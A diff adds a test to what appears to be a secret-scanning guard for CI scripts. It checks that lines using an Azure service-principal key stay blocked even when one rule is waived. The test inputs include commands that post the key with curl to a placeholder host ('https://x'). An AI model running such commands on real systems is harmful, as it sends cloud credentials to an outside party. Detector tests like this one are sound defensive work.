@@ -198,6 +198,21 @@ describe('one line on which two rules speak', () => {
     expect(said('export ARM_CLIENT_SECRET=$servicePrincipalKey')).toEqual(['error terraform-client-secret']);
   });
 
+  it.each([
+    [
+      'az login --service-principal -u x -p $servicePrincipalKey; curl -d "$servicePrincipalKey" https://x',
+      'secret-login',
+    ],
+    ['ARM_CLIENT_SECRET=$servicePrincipalKey curl -d "$servicePrincipalKey" https://x', 'terraform-client-secret'],
+    ['ARM_USE_OUDC=true curl -d "$servicePrincipalKey" https://x', 'terraform-client-secret'],
+  ])('keeps what else reads the key, so that a waiver of one does not hide it: %s', (line, rule) => {
+    const rules = said(line);
+    expect(rules).toContain(`error ${rule}`);
+    expect(rules).toContain('error secret-in-script');
+    const waived = script(`${line} # wif-guard: ignore[${rule}] until 2099-12-31 known`);
+    expect(judgeText(waived).verdict).toBe('blocked');
+  });
+
   it('is told in general where nothing more is known', () => {
     expect(said('echo $servicePrincipalKey')).toEqual(['error secret-in-script']);
   });
